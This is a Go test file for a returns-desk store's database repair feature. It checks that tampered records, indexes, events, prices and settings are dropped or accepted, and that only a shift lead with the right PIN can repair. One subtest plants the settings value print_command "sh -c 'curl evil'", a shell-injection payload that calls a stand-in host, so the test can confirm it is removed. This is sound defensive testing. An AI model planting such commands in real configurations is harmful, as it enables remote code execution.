package store

import (
	"bytes"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	bolt "go.etcd.io/bbolt"

	"example.com/returnsdesk/flow"
)

// repaired runs Repair by the sample store's lead on the file at path,
// and checks what every repair must leave: check passes, the store takes
// writes again, the file before it is kept as it was, and the repair event
// lists what it dropped and accepted.
func repaired(t *testing.T, path string) RepairReport {
	t.Helper()
	if _, err := CheckFile(path, CheckOptions{}); err == nil {
		t.Fatal("the edit did not fail the check")
	}
	before, err := dump(path)
	must(t, err)
	s, err := Open(path, testOptions())
	must(t, err)
	if s.Rejected() == nil {
		t.Fatal("a store check rejects opened for writing")
	}
	must(t, s.Close())
	rep, err := RepairFile(path, testOptions(), "Maria", "123456", t0)
	must(t, err)
	s, err = Open(path, testOptions())
	must(t, err)
	defer s.Close()
	if _, err := s.Check(CheckOptions{}); err != nil {
		t.Fatalf("check after the repair: %v", err)
	}
	if err := s.AddStaff("Petro", flow.RoleCashier, "2468", "Maria"); err != nil {
		t.Errorf("a write after the repair: %v", err)
	}
	if kept, err := dump(rep.Kept); err != nil || kept != before {
		t.Errorf("the file kept before the repair (%s) is not the file as it was: %v", rep.Kept, err)
	}
	evs, err := s.Events(rep.Seq-1, 1)
	must(t, err)
	if len(evs) != 1 || evs[0].Kind != EventRepair || evs[0].Staff != "Maria" || evs[0].Repair == nil ||
		!slices.Equal(evs[0].Repair.Dropped, rep.Dropped) || !slices.Equal(evs[0].Repair.Accepted, rep.Accepted) {
		t.Errorf("the repair event: %+v, the report %+v", evs, rep)
	}
	if _, err := os.Stat(VerdictFile(path)); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the verdict is still beside the repaired store: %v", err)
	}
	return rep
}

// TestRepair: finding 5's explicit repair. Each edit check rejects is
// mended by dropping what it names, accepting a broken link, or building
// the indexes again, and the repair says which.
func TestRepair(t *testing.T) {
	orig := sampleStore(t, 6)
	for _, tc := range []struct {
		name        string
		edit        func(tx *bolt.Tx) error
		dropped     []string
		acceptedAny bool
	}{
		{"a cashier made a lead", func(tx *bolt.Tx) error {
			b := tx.Bucket(bucketStaff)
			return b.Put([]byte("olena"), bytes.Replace(copyBytes(b.Get([]byte("olena"))), []byte(`"cashier"`), []byte(`"lead"`), 1))
		}, []string{"staff:olena"}, false},
		{"an index entry deleted", func(tx *bolt.Tx) error {
			k, _ := tx.Bucket(bucketReceipts).Cursor().First()
			return tx.Bucket(bucketReceipts).Delete(copyBytes(k))
		}, nil, false},
		{"a summary's flags changed", func(tx *bolt.Tx) error {
			b := tx.Bucket(bucketDays)
			k, v := b.Cursor().First()
			v = copyBytes(v)
			v[len(v)-3] ^= 0x01
			return b.Put(copyBytes(k), v)
		}, nil, false},
		{"an event edited", func(tx *bolt.Tx) error {
			return editEvent(tx, 5, func(m map[string]any) { m["detail"] = "nothing happened" }, false)
		}, nil, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			path := copyFile(t, orig)
			editRaw(t, path, tc.edit)
			rep := repaired(t, path)
			if !slices.Equal(rep.Dropped, tc.dropped) || (len(rep.Accepted) > 0) != tc.acceptedAny {
				t.Errorf("dropped %q, accepted %v", rep.Dropped, rep.Accepted)
			}
		})
	}
	t.Run("a case's price raised", func(t *testing.T) {
		path := copyFile(t, orig)
		var id string
		editRaw(t, path, func(tx *bolt.Tx) error {
			k, v := tx.Bucket(bucketCases).Cursor().First()
			rec, err := decodeCaseRecord(v)
			must(t, err)
			id = caseID(k)
			raw := bytes.Replace(rec.raw, []byte(`"minor":1999900`), []byte(`"minor":2999900`), 1)
			return tx.Bucket(bucketCases).Put(copyBytes(k), encodeCase(rec.day, raw))
		})
		rep := repaired(t, path)
		if !slices.Contains(rep.Dropped, "case:"+id) {
			t.Errorf("the edited case was not dropped: %q", rep.Dropped)
		}
		s, err := Open(path, testOptions())
		must(t, err)
		defer s.Close()
		if _, err := s.Case(id); !errors.Is(err, ErrNotFound) {
			t.Errorf("the dropped case reads: %v", err)
		}
	})
	t.Run("the settings planted", func(t *testing.T) {
		path := copyFile(t, orig)
		editRaw(t, path, func(tx *bolt.Tx) error {
			b := tx.Bucket(bucketSettings)
			var m map[string]any
			must(t, json.Unmarshal(b.Get(keySettings), &m))
			m["print_command"] = "sh -c 'curl evil'"
			v, _ := json.Marshal(m)
			return b.Put(keySettings, v)
		})
		rep := repaired(t, path)
		if !slices.Equal(rep.Dropped, []string{"settings"}) {
			t.Errorf("dropped %q", rep.Dropped)
		}
		s, err := Open(path, testOptions())
		must(t, err)
		defer s.Close()
		if ok, err := s.Initialized(); ok || err != nil {
			t.Errorf("a store without its settings is set up: %v %v", ok, err)
		}
		must(t, s.SaveSettings(NewSettings("Test store", "generic", "", "Europe/Kyiv"), "Maria"))
		if ok, err := s.Initialized(); !ok || err != nil {
			t.Errorf("set up again: %v %v", ok, err)
		}
		if _, err := s.Check(CheckOptions{}); err != nil {
			t.Errorf("check after the settings were set again: %v", err)
		}
	})
	t.Run("only a shift lead, with the PIN", func(t *testing.T) {
		path := copyFile(t, orig)
		editRaw(t, path, func(tx *bolt.Tx) error { return tx.Bucket(bucketReceipts).Put([]byte("x"), nil) })
		_, _ = CheckFile(path, CheckOptions{})
		before, err := dump(path)
		must(t, err)
		if _, err := RepairFile(path, testOptions(), "Maria", "000000", t0); !errors.Is(err, ErrBadLogin) {
			t.Errorf("a wrong PIN: %v", err)
		}
		if _, err := RepairFile(path, testOptions(), "Nobody", "123456", t0); !errors.Is(err, ErrBadLogin) {
			t.Errorf("no such lead: %v", err)
		}
		if _, err := RepairFile(path, testOptions(), "olena", "5678", t0); !errors.Is(err, ErrNotLead) {
			t.Errorf("a cashier: %v", err)
		}
		if after, _ := dump(path); after != before {
			t.Error("a refused repair changed the store")
		}
		if matches, _ := filepath.Glob(path + ".before-repair-*"); len(matches) != 0 {
			t.Errorf("a refused repair kept a copy: %v", matches)
		}
	})
	t.Run("nothing to repair", func(t *testing.T) {
		path := copyFile(t, orig)
		rep, err := RepairFile(path, testOptions(), "Maria", "123456", t0)
		if err != nil || !rep.Nothing {
			t.Errorf("the repair of a sound store: %+v %v", rep, err)
		}
	})
}

// TestRepairCyrillicStaff: a Ukrainian store's cashier, named in Cyrillic,
// made a lead outside the program. Check names the account in letters, as
// the store keeps it (not its bytes in hex), and the repair drops it by
// that name: the repair's own check then passes, and the lead logs in.
func TestRepairCyrillicStaff(t *testing.T) {
	const cashier = "Марія Ткаченко"
	s, path := openTest(t)
	must(t, s.AddStaff("Maria", flow.RoleLead, "123456", "setup"))
	must(t, s.AddStaff(cashier, flow.RoleCashier, "2468", "Maria"))
	must(t, s.Close())
	editRaw(t, path, func(tx *bolt.Tx) error {
		b := tx.Bucket(bucketStaff)
		return b.Put([]byte(cashier), bytes.Replace(copyBytes(b.Get([]byte(cashier))), []byte(`"cashier"`), []byte(`"lead"`), 1))
	})
	_, err := CheckFile(path, CheckOptions{})
	var ce *CheckError
	if !errors.As(err, &ce) || !strings.Contains(strings.Join(ce.Problems, "\n"), "staff "+cashier+": the account is not as") {
		t.Fatalf("check: %v, want a problem naming staff %s", err, cashier)
	}
	rep := repaired(t, path)
	if !slices.Equal(rep.Dropped, []string{"staff:" + cashier}) {
		t.Errorf("dropped %q, want staff:%s", rep.Dropped, cashier)
	}
	s, err = Open(path, testOptions())
	must(t, err)
	defer s.Close()
	if _, err := s.Login("Maria", "123456", t0); err != nil {
		t.Errorf("the lead's login after the repair: %v", err)
	}
	if _, err := s.Login(cashier, "2468", t0); !errors.Is(err, ErrBadLogin) {
		t.Errorf("the dropped account's login: %v", err)
	}
}
